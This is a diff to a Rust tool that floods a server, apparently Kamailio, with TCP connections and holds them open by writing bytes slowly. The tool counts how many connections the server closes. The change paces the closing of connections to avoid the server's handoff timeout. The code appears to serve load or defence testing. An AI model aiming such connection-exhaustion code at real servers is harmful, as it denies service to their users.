@@ -8,6 +8,7 @@ use std::collections::VecDeque;
 use std::io::{self, BufRead, Read, Write};
 use std::net::{IpAddr, SocketAddr, TcpStream};
 use std::os::fd::{AsFd, AsRawFd, OwnedFd};
+use std::thread::sleep;
 use std::time::{Duration, Instant};
 
 use nix::errno::Errno;
@@ -27,6 +28,11 @@ const LATEST: Duration = Duration::from_millis(20);
 /// Connections that are opened at once, to stay: well below the server's backlog
 /// of 1,024.
 const BATCH: usize = 200;
+
+/// Connections that are closed at once. Each end is handed to one of Kamailio's
+/// workers; what TCP main cannot hand over within two seconds
+/// (`SEND_FD_QUEUE_TIMEOUT`) it closes, also if it is not of an attacker.
+const LEAVE_AT_ONCE: usize = 80;
 
 /// A server says whether it admits a connection within this time.
 const MOST_PATIENCE: Duration = Duration::from_secs(10);
@@ -122,22 +128,25 @@ fn pass(attack: &Attack, per_second: u32, life: Duration) -> io::Result<Outcome>
     let mut open: VecDeque<(OwnedFd, Instant)> = VecDeque::new();
     answer(&Begun)?;
     let mut due = Instant::now();
-    while !ordered_before(due)? {
+    let mut goes_on = true;
+    while goes_on || !open.is_empty() {
+        if goes_on {
+            goes_on = !ordered_before(due)?;
+        } else {
+            sleep(LATEST);
+        }
         let now = Instant::now();
         due = due.max(now - LATEST);
         let over = open.partition_point(|(_, since)| *since + life <= now);
         for (socket, _) in open.drain(..over) {
             outcome.closed_by_server += usize::from(is_closed(&socket)?);
         }
-        if due <= now {
+        if goes_on && due <= now {
             let from = attack.sources[outcome.opened % attack.sources.len()];
             open.push_back((connecting(from, attack.to)?, now));
             outcome.opened += 1;
             due += period;
         }
-    }
-    for (socket, _) in open {
-        outcome.closed_by_server += usize::from(is_closed(&socket)?);
     }
     Ok(outcome)
 }
@@ -186,6 +195,10 @@ fn sit(attack: &Attack, each: usize) -> io::Result<Outcome> {
         seat.write_all(&[byte])
             .map_err(|error| io::Error::other(format!("the server has closed a seat: {error}")))?;
         said += 1;
+    }
+    while !seats.is_empty() {
+        seats.truncate(seats.len().saturating_sub(LEAVE_AT_ONCE));
+        sleep(LATEST);
     }
     Ok(outcome)
 }
